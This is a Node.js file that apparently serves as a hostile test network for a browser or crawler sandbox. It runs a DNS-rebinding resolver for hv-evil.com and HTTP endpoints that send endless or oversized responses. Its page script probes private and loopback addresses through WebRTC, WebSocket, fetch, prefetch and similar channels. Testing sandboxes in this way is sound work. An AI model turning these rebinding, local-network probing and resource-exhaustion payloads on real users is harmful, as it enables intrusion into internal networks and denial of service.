// An Internet that means harm: names that lead into the home, pages that ask for it, and servers that send as much as they can. It runs in a
// network namespace of its own that takes every address for its own. Says "ready" on stdout, then what it is asked for, a line of JSON each.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';

const { decode, encode } = createRequire(import.meta.url)('dns-packet');

const [resolver, web, zoneText] = process.argv.slice(2);
/** Names under hv-evil.com, with the addresses that they lead to, all at once; lists of lists are given one after another. */
const zone = JSON.parse(zoneText);
const asked = {};

const tell = (what) => process.stdout.write(`${JSON.stringify(what)}\n`);

const dns = createSocket('udp4');
dns.on('message', (message, { port, address }) => {
  const query = decode(message);
  const [{ name, type }] = query.questions;
  const label = name.toLowerCase().replace(/\.?hv-evil\.com$/, '');
  tell({ name });
  let addresses = name.toLowerCase().endsWith('hv-evil.com') ? (zone[label] ?? [web]) : [];
  if (Array.isArray(addresses[0])) {
    const turn = asked[name + type] ?? 0;
    asked[name + type] = turn + 1;
    addresses = addresses[turn % addresses.length];
  }
  const answers = addresses
    .filter((one) => one.includes(':') === (type === 'AAAA') && (type === 'A' || type === 'AAAA'))
    .map((data) => ({ type, name, ttl: 1, data }));
  dns.send(
    encode({ id: query.id, type: 'response', flags: 0x180, questions: query.questions, answers }),
    port,
    address,
  );
});
dns.bind(53, resolver);

const big = Buffer.alloc(1 << 18, '<a href=/b>x</a>');
/** Answers that do not end, or are longer than they seem. */
const endless = {
  inf(_, response) {
    response.writeHead(200, { 'content-type': 'text/html' });
    const write = () => {
      while (!response.destroyed && response.write(big));
    };
    response.on('drain', write);
    write();
  },
  drip(_, response) {
    response.writeHead(200, { 'content-type': 'text/html' });
    const timer = setInterval(() => (response.destroyed ? clearInterval(timer) : response.write('x')), 50);
  },
  loop(request, response) {
    response.writeHead(302, { location: `${request.url}l`, 'content-type': 'text/html' }).end('y'.repeat(60_000));
  },
  hdr({ socket }) {
    socket.write(`HTTP/1.1 200 OK\r\n${`X-1: ${'z'.repeat(1000)}\r\n`.repeat(5000)}`);
  },
  early({ socket }) {
    for (let i = 0; i < 2000 && !socket.destroyed; i++)
      socket.write('HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload\r\n\r\n');
  },
};

const ATTEMPTS = `
const attempt = (work) => { try { work() } catch {} };
attempt(() => {
  const connection = new RTCPeerConnection({ iceServers: [
    { urls: 'stun:10.0.0.5:3478' }, { urls: 'stun:stun-rtc.hv-evil.com:3478' }, { urls: 'stun:93.184.216.40:3478' },
    { urls: 'turn:10.0.0.6:3478?transport=tcp', username: 'a', credential: 'b' },
    { urls: 'turn:turn-rtc.hv-evil.com:80?transport=udp', username: 'a', credential: 'b' } ] });
  connection.createDataChannel('x');
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  setTimeout(() => { for (const [ip, port] of [['10.0.0.8', 80], ['192.168.7.1', 9], ['93.184.216.41', 5000]])
    attempt(() => connection.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + ip + ' ' + port + ' typ host', sdpMid: '0', sdpMLineIndex: 0 })) }, 300);
});
attempt(() => {
  const a = new RTCPeerConnection(), b = new RTCPeerConnection();
  a.createDataChannel('y');
  a.createOffer().then(async (offer) => {
    await a.setLocalDescription(offer);
    await b.setRemoteDescription({ type: 'offer', sdp: offer.sdp + 'a=candidate:1 1 udp 2122260223 10.0.0.9 80 typ host\\r\\na=candidate:2 1 udp 2122260223 192.168.7.1 7777 typ host\\r\\na=candidate:3 1 tcp 2122260222 10.0.0.10 80 typ host tcptype passive\\r\\n' });
    const answer = await b.createAnswer();
    await b.setLocalDescription(answer);
    await a.setRemoteDescription({ type: 'answer', sdp: answer.sdp + 'a=candidate:1 1 udp 2122260223 10.0.0.11 80 typ host\\r\\n' });
  });
});
for (const url of ['ws://10.0.0.1/ws', 'ws://lo.hv-evil.com/ws', 'ws://[::1]/ws', 'ws://127.0.0.1:9222/ws', 'ws://www.hv-evil.com:8081/ws'])
  attempt(() => new WebSocket(url));
for (const url of ['https://10.0.0.1:443/wt', 'https://www.hv-evil.com/wt', 'https://93.184.216.42:443/wt']) attempt(() => new WebTransport(url));
for (const url of ['http://10.0.0.1/f', 'http://lo.hv-evil.com/f', 'http://[::1]/f', 'http://neighbour.hv-evil.com/f', 'http://127.0.0.1:80/f', 'http://printer.local/f'])
  attempt(() => { fetch(url, { mode: 'no-cors' }).catch(() => {}); navigator.sendBeacon(url); new EventSource(url) });
attempt(() => navigator.serviceWorker.register('/sw.js'));
attempt(() => window.open('http://10.0.0.1/open'));
setTimeout(() => fetch('/ran?' + navigator.onLine), 3000);
// A page that has nothing more to load is left at once.
new Image().src = '/hold';
`;

let count = 0;
/** Leads to every name of the zone, as link and as picture, and has a browser try everything else. */
const page = () => {
  count++;
  const names = Object.keys(zone).filter((name) => name !== '');
  const urls = names.map((name) => `http://${name}.hv-evil.com/${name}`);
  const sources = Object.keys(endless).map((kind) => `/${kind}${count++}`);
  return `<!doctype html><html><head>
<link rel=dns-prefetch href="//dns-prefetch.hv-evil.com"><link rel=preconnect href="http://preconnect.hv-evil.com"><link rel=preconnect href="http://10.0.0.1">
<link rel=prefetch href="http://10.0.0.1/pf"><link rel=preload as=image href="http://10.0.0.1/pl"><link rel=manifest href="http://10.0.0.1/manifest">
</head><body>
${urls.map((url, i) => [`<img src="${url}.png">`, `<script src="${url}.js"></script>`, `<iframe src="${url}"></iframe>`][i % 3]).join('\n')}
<!--greed-->
${names.map((_, i) => `<a href="/to/${i}">x</a>`).join('')}${urls.map((url) => `<a href="${url}">x</a>`).join('')}<a href="/p${count}">x</a>
<script src=/attempts.js></script><script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://10.0.0.1/spec","http://lo.hv-evil.com/spec"]}]}</script>
</body></html>`.replace(
    '<!--greed-->',
    process.argv[5] === 'greedy'
      ? `<img src=/first>${[...Array(10)].map((_, i) => sources.map((src) => `<img src=http://cdn${i % 5}.hv-evil.com${src}${i}><a href=${src}a>x</a>`).join('')).join('')}`
      : '',
  );
};

createServer((request, response) => {
  const { url, socket, headers } = request;
  tell({ to: socket.localAddress, host: headers.host, url });
  response.on('error', () => {});
  const kind = /^\/([a-z]+)\d/.exec(url)?.[1];
  if (kind !== undefined && endless[kind]) return endless[kind](request, response);
  const target = /^\/to\/(\d+)/.exec(url)?.[1];
  if (target !== undefined)
    return response.writeHead(302, { location: `http://${Object.keys(zone)[target]}.hv-evil.com/redirected` }).end();
  if (url === '/hold') return setTimeout(() => response.end(), 3500);
  if (url === '/attempts.js') return response.writeHead(200, { 'content-type': 'text/javascript' }).end(ATTEMPTS);
  const hints = {
    'content-type': 'text/html',
    'alt-svc': 'h2="10.0.0.1:443"; ma=86400, h3="10.0.0.1:443"',
    link: '<http://10.0.0.1/l>; rel=preload; as=image, <http://10.0.0.1>; rel=preconnect',
    'report-to': '{"group":"a","max_age":1000,"endpoints":[{"url":"http://10.0.0.1/report"}]}',
    nel: '{"report_to":"a","max_age":1000,"success_fraction":1}',
  };
  response.writeHead(200, hints).end(page());
}).listen(80, '::', () => tell('ready'));
